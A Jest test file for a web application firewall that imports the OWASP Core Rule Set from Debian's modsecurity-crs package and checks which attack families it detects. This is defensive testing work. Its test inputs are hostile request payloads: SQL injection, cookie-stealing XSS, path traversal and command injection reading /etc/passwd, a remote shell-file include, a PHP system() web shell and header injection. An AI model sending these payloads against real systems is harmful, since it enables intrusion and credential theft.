import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { jest } from '@jest/globals';
import { defaultFirewall } from '@sitekeep/contracts';
import { Firewall } from '../inspect/firewall.ts';
import { importCrs, type Import, importedRulesSchema, importSummary, rulesOf } from './index.ts';

jest.setTimeout(120_000);

const hasApt = ['apt-get', 'dpkg'].every((program) => spawnSync(program, ['--version'], { stdio: 'ignore' }).status === 0);
const folder = mkdtempSync(join(tmpdir(), 'sitekeep-crs-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Debian's package, unpacked and not installed; why not, where the machine can not. */
function unpacked(): string | null {
  if (!hasApt) return 'there is no apt-get to fetch modsecurity-crs with';
  const options = ['-o', 'APT::Sandbox::User=root', '-q'];
  const quiet = { cwd: folder, stdio: 'pipe', timeout: 120_000 } as const;
  try {
    execFileSync('apt-get', [...options, 'download', 'modsecurity-crs'], quiet);
    execFileSync('sh', ['-c', 'dpkg -x modsecurity-crs*.deb .'], quiet);
  } catch {
    return 'modsecurity-crs can not be fetched: run apt-get update first';
  }
  return existsSync(join(folder, 'usr/share/modsecurity-crs/rules')) ? null : 'modsecurity-crs has no rules';
}

const reason = unpacked();
const withCrs = reason === null ? describe : describe.skip;
if (reason !== null) console.warn(`Not asked: ${reason}.`);

test('a folder without rules is told', () => {
  expect(() => importCrs(mkdtempSync(join(folder, 'empty-')))).toThrow('holds no rules');
});

withCrs('the core rule set as Debian has it', () => {
  let found: Import;
  let firewall: Firewall;
  beforeAll(() => {
    found = importCrs(folder);
    firewall = new Firewall({ crs: rulesOf(importedRulesSchema.parse(JSON.parse(JSON.stringify(found.imported)))), budgetMs: 5000 });
  });
  afterAll(() => firewall.dispose());

  function families(target: string, { headers = [], body }: { headers?: string[]; body?: string } = {}, paranoia = 1): string[] {
    const site = firewall.compileSite({ ...defaultFirewall, mode: 'block', paranoia, sets: ['crs'] });
    const all = ['Host', 'www.example.com', 'User-Agent', 'Mozilla/5.0 (X11; Linux x86_64)', 'Accept', 'text/html', ...headers];
    const ofHead = firewall.inspectHead(site, { method: body === undefined ? 'GET' : 'POST', target, headers: all });
    const whole = body === undefined ? ofHead : firewall.inspectBody(site, all, [Buffer.from(body)], true, ofHead);
    return [...new Set(whole.matches.map(({ rule }) => rule.family))];
  }
  const form = (body: string) => ({
    body,
    headers: ['Content-Type', 'application/x-www-form-urlencoded', 'Content-Length', `${body.length}`],
  });

  test('most of its rules become rules of the engine, and each of the others has a reason', () => {
    const { imported, notExpressed, rules } = found;
    expect(imported.release).toMatch(/^OWASP_CRS\/[34]\./);
    expect(imported.rules.length / rules).toBeGreaterThan(0.8);
    const faulty = notExpressed.filter(({ rule }) => /^9\d{5}$/.test(rule));
    expect(imported.rules.length + new Set(faulty.map(({ rule }) => rule)).size).toBeGreaterThanOrEqual(rules);
    expect(notExpressed.every(({ reason, file, line }) => reason !== '' && file.endsWith('.conf') && line > 0)).toBe(true);
    expect(importSummary(found)).toContain(`${imported.rules.length} of ${rules} rules imported`);
  });

  test('its attacks come in all paranoia levels, and in the families of its files', () => {
    const { rules } = found.imported;
    for (const paranoia of [1, 2, 3, 4]) expect(rules.some((rule) => rule.paranoia === paranoia)).toBe(true);
    const present = new Set(rules.map(({ family }) => family));
    for (const family of ['sqli', 'xss', 'traversal', 'remote_file', 'command', 'php', 'java', 'scanner', 'protocol'] as const) {
      expect([family, present.has(family)]).toEqual([family, true]);
    }
  });

  test.each([
    ["/?id=1'%20union%20select%20password%20from%20users--%20-", 'sqli'],
    ["/?id=1'%20or%20'1'='1", 'sqli'],
    ['/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', 'xss'],
    ['/?file=../../../../etc/passwd', 'traversal'],
    ['/?host=127.0.0.1;cat%20/etc/passwd', 'command'],
    ['/?page=http://192.0.2.1/shell.txt%3F', 'remote_file'],
    ['/?x=%3C?php%20system($_GET%5B%22c%22%5D);', 'php'],
    ['/?class=java.lang.Runtime', 'java'],
    ['/?q=a%0d%0aSet-Cookie:%20a=b', 'header_injection'],
  ])('%s is found to be %s', (target, family) => {
    expect(families(target)).toContain(family);
  });

  test('forms, cookies and headers are looked at, too', () => {
    expect(families('/', form("user=admin'--+&password=%27+or+1%3D1%23"))).toContain('sqli');
    expect(families('/', form('comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E'))).toContain('xss');
    expect(families('/', { headers: ['Cookie', 'theme=<script>alert(1)</script>'] })).toContain('xss');
    expect(families('/', { headers: ['User-Agent', 'sqlmap/1.7 (https://sqlmap.org)'] })).toContain('scanner');
  });

  test('what it says nothing of passes', () => {
    expect(families('/shop/item?id=42&sort=price&q=red+shoes')).toEqual([]);
    expect(families('/', form('name=Ann+Smith&email=ann%40example.com&text=Thank+you+for+the+parcel'))).toEqual([]);
    expect(families('/', { headers: ['Cookie', '__utmz=1.2.3.4.utmcsr=(direct)|utmccn=(direct)|utmcmd=(none)'] })).toEqual([]);
  });

  test('a higher paranoia finds what a lower one lets pass', () => {
    const target = '/?q=%26%26%20-~!%5E*%20(a)%20%7B%7D%20;%20%3D%3D';
    expect(families(target, {}, 4).length).toBeGreaterThan(families(target).length);
  });
});
